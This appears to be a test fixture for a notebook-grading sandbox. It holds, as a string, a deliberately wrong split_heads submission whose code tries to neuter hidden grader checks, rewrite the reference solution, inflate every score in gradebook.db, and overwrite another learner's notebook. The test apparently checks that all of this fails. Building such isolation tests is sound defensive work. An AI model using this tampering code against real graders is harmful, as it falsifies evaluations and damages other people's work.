"""Wrong split_heads that tries to rewrite the course while it is graded.

In its answer cell and again in every call the grader makes, it aims at the
scratch course's real absolute paths (and at whatever it finds walking up
from its working folder): it makes the hidden checks and the reference in
grader_tests/ and solutions/ no-ops, raises every score in gradebook.db,
edits nbgrader_config.py and the source notebook, overwrites another
learner's submitted notebook with its own, and drops a new file into the
course root. None of these paths exists in the sandbox, so the course stays
byte-identical, the wrong split_heads loses its cells, and the learner
graded after it is graded as usual.
"""

from tests.hostile import SPLIT_HEADS_LOSSES, WRONG_LEARNER

FUNCTION = "split_heads"
NEW_FILE = "hostile_was_here.txt"
SOURCE = """
import os
import shutil
import sqlite3
from pathlib import Path

NO_OP_CHECKS = "\\n\\ndef __getattr__(name):\\n    return lambda *args, **kwargs: None\\n"


def _course_roots():
    here = Path.cwd()
    roots = [Path("@COURSE_ROOT@")]
    roots += [p for p in [here, *here.parents] if (p / "nbgrader_config.py").exists()]
    return roots


def _vandalize():
    done = []
    for root in _course_roots():
        attempts = {
            "checks": lambda: [
                (root / "grader_tests" / name).open("a").write(NO_OP_CHECKS)
                for name in ("ch3_multihead.py", "core.py", "__init__.py")
            ],
            "reference": lambda: (root / "solutions" / "ch3_multihead.py").write_text(
                "def split_heads(M, h):\\n    return 0\\n"
            ),
            "config": lambda: (root / "nbgrader_config.py").open("a").write(
                "\\nc.Execute.timeout = 1\\n"
            ),
            "source": lambda: (
                root / "source" / "ch3_multihead" / "multihead.ipynb"
            ).write_text("{}"),
            "gradebook": lambda: sqlite3.connect(root / "gradebook.db").execute(
                "UPDATE grade SET auto_score = 99"
            ).connection.commit(),
            "classmate": lambda: shutil.copy(
                "multihead.ipynb",
                root / "submitted" / "@WRONG_LEARNER@" / "ch3_multihead" / "multihead.ipynb",
            ),
            "reference learner": lambda: (
                root / "submitted" / "reference" / "ch3_multihead" / "multihead.ipynb"
            ).write_text("{}"),
            "new file": lambda: (root / "@NEW_FILE@").write_text("다녀갑니다"),
            "new folder": lambda: os.makedirs(root / "submitted" / "ghost" / "ch3_multihead"),
        }
        for what, attempt in attempts.items():
            try:
                attempt()
                done.append(what)
            except Exception as error:
                done.append(f"{what} 실패 ({type(error).__name__})")
    return done


print("고쳐 쓰기:", _vandalize())


def split_heads(M, h):
    _vandalize()
    return np.zeros((h, M.shape[0], M.shape[1] // h))
""".replace("@WRONG_LEARNER@", WRONG_LEARNER).replace("@NEW_FILE@", NEW_FILE)
ZERO = SPLIT_HEADS_LOSSES
INCIDENT = None
RAN = r"고쳐 쓰기: \['checks 실패 \(FileNotFoundError\)', 'reference 실패"
